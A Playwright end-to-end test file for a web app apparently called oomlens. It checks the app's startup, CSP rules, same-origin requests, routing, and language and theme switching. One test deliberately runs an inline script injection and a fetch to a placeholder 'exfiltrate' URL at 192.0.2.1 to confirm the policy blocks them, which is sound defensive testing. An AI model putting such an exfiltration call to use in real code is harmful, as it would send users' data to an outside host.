// The app shell end to end, run against the build served at / (project "root") and the build made
// with a non-root public URL served under it (project "subpath"). Every test also passes the
// harness guard: no console error, no CSP violation, no request outside the site's origin and base.
import { test, expect, expectedAllocatableBytes, openApp, settle } from './fixtures.mjs';

/** The policy in index.html's <meta http-equiv="Content-Security-Policy">, as directive → sources. */
async function cspDirectives(page) {
  const content = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  return new Map(
    content
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...sources]) => [name, sources]),
  );
}

test('the app starts: shell rendered, loading notice gone, calculator shown by default', async ({ page }) => {
  await openApp(page);
  await expect(page.locator('#boot')).toHaveCount(0);
  await expect(page.getByTestId('page')).toHaveAttribute('data-page', 'calculator');
  await expect(page.getByTestId('nav-calculator')).toHaveAttribute('aria-current', 'page');
  await expect(page.getByTestId('nav-incident')).not.toHaveAttribute('aria-current', /.*/);
  // Both pages stay mounted; the inactive one is hidden (so switching keeps what the user typed).
  await expect(page.locator('[data-route="calculator"]')).not.toHaveAttribute('hidden');
  await expect(page.locator('[data-route="incident"]')).toHaveAttribute('hidden');
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await expect(page).toHaveTitle(/oomlens/);
});

test("shows the example scenario's computed allocatable (same bytes as the CLI)", async ({ page }) => {
  const expected = expectedAllocatableBytes();
  await openApp(page, '#/calculator');
  const allocatable = page.getByTestId('allocatable').first();
  await expect(allocatable).toBeVisible();
  await expect(allocatable).toHaveAttribute('data-bytes', String(expected));
});

test('the Content-Security-Policy allows only the own origin and no inline code', async ({ page, baseURL }) => {
  await openApp(page);
  const csp = await cspDirectives(page);
  expect(csp.get('default-src')).toEqual(["'self'"]);
  expect(csp.get('connect-src')).toEqual(["'self'"]);
  expect(csp.get('style-src')).toEqual(["'self'"]);
  expect(csp.get('img-src')).toEqual(["'self'"]);
  expect(csp.get('object-src')).toEqual(["'none'"]);
  const script = csp.get('script-src');
  expect(script).toContain("'self'");
  expect(script).toContain("'wasm-unsafe-eval'");
  expect(script.filter((s) => !["'self'", "'wasm-unsafe-eval'"].includes(s) && !/^'sha(256|384|512)-/.test(s))).toEqual([]);
  for (const [name, sources] of csp) {
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", '*', 'data:', 'blob:', 'http:', 'https:']) {
      expect(sources, `${name} must not allow ${bad}`).not.toContain(bad);
    }
  }
  // The served HTML has no inline script: every <script> has a src (the wasm loader is external).
  const html = await (await page.request.get(baseURL)).text();
  const scripts = html.match(/<script\b[^>]*>/gi) ?? [];
  expect(scripts.length).toBeGreaterThan(0);
  for (const tag of scripts) expect(tag, 'inline <script> in index.html').toMatch(/\ssrc=/);
  expect(html, 'inline style attribute in index.html').not.toMatch(/\sstyle=/i);
});

test('the policy is enforced: inline script and foreign connections are blocked and reported', async ({ page, guard, context }) => {
  // This test provokes violations on purpose, to prove the guard sees them.
  guard.allowCsp(/script-src|connect-src|Content Security Policy/);
  await openApp(page);
  const ran = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true;';
    document.head.append(s);
    await new Promise((r) => setTimeout(r, 50));
    return window.__inlineRan === true;
  });
  expect(ran, 'an inline script ran despite the CSP').toBe(false);
  const fetched = await page.evaluate(() =>
    fetch('http://192.0.2.1/exfiltrate').then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(fetched).toBe('blocked');
  await settle(context);
  expect(guard.csp.some((v) => /^script-src/.test(v))).toBe(true);
  expect(guard.csp.some((v) => /^connect-src.*192\.0\.2\.1/.test(v))).toBe(true);
  // The blocked fetch never reached the network.
  expect(guard.requests.filter((u) => u.includes('192.0.2.1'))).toEqual([]);
});

test('every request stays on the own origin, under the base path', async ({ page, guard, baseURL }) => {
  await openApp(page);
  await page.getByTestId('nav-incident').click();
  await expect(page.getByTestId('page')).toHaveAttribute('data-page', 'incident');
  await page.getByTestId('nav-calculator').click();
  await page.waitForLoadState('networkidle');
  const paths = guard.requests.map((u) => new URL(u).pathname);
  const base = new URL(baseURL).pathname;
  // The app really loaded from here: its document, wasm, js and css were all requested.
  expect(paths).toContain(base);
  for (const ext of ['.wasm', '.js', '.css']) {
    expect(paths.some((p) => p.endsWith(ext)), `no ${ext} request recorded`).toBe(true);
  }
  expect(guard.foreignRequests()).toEqual([]);
});

test('hash routing: nav links, deep link, back button, unknown route', async ({ page }) => {
  await openApp(page);
  const current = page.getByTestId('page');
  await page.getByTestId('nav-incident').click();
  await expect(page).toHaveURL(/#\/incident$/);
  await expect(current).toHaveAttribute('data-page', 'incident');
  await expect(page.locator('[data-route="incident"]')).not.toHaveAttribute('hidden');
  await expect(page.locator('[data-route="calculator"]')).toHaveAttribute('hidden');
  await expect(page.getByTestId('nav-incident')).toHaveAttribute('aria-current', 'page');
  await expect(page).toHaveTitle(/incident/i);

  await page.goBack();
  await expect(current).toHaveAttribute('data-page', 'calculator');

  await openApp(page, '#/incident');
  await expect(current).toHaveAttribute('data-page', 'incident');

  await openApp(page, '#/no-such-page');
  await expect(current).toHaveAttribute('data-page', 'calculator');
});

test('a path deep link answered by 404.html (as on GitHub Pages) opens that page', async ({ page, guard }) => {
  // The host answers an unknown path with 404.html and status 404; the browser logs that status.
  guard.allowResponse(/^404 .*\/incident$/);
  guard.allowConsole(/status of 404/);
  const response = await openApp(page, 'incident');
  expect(response.status()).toBe(404);
  await expect(page.getByTestId('page')).toHaveAttribute('data-page', 'incident');
});

test('language switch: Chinese and back, remembered across reloads', async ({ page }) => {
  await openApp(page);
  const nav = page.getByTestId('nav-calculator');
  await expect(nav).toHaveText('Calculator');
  await page.getByTestId('lang-switch').click();
  await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
  await expect(nav).toHaveText('计算器');
  await expect(page.getByTestId('lang-switch')).toHaveText('English');
  await page.reload();
  await expect(page.getByTestId('app-header')).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
  await expect(nav).toHaveText('计算器');
  await page.getByTestId('lang-switch').click();
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await expect(nav).toHaveText('Calculator');
});

test('theme switch: dark and back, remembered across reloads', async ({ page }) => {
  await openApp(page);
  const html = page.locator('html');
  await expect(html).toHaveAttribute('data-theme', 'light');
  const lightBg = await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  await page.getByTestId('theme-switch').click();
  await expect(html).toHaveAttribute('data-theme', 'dark');
  const darkBg = await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  expect(darkBg).not.toBe(lightBg);
  await page.reload();
  await expect(page.getByTestId('app-header')).toBeVisible();
  await expect(html).toHaveAttribute('data-theme', 'dark');
  await page.getByTestId('theme-switch').click();
  await expect(html).toHaveAttribute('data-theme', 'light');
});

test.describe('for a Chinese browser with a dark system theme', () => {
  test.use({ locale: 'zh-CN', colorScheme: 'dark' });

  test('starts in Chinese and dark', async ({ page }) => {
    await openApp(page);
    await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await expect(page.getByTestId('nav-incident')).toHaveText('事故分析');
  });
});
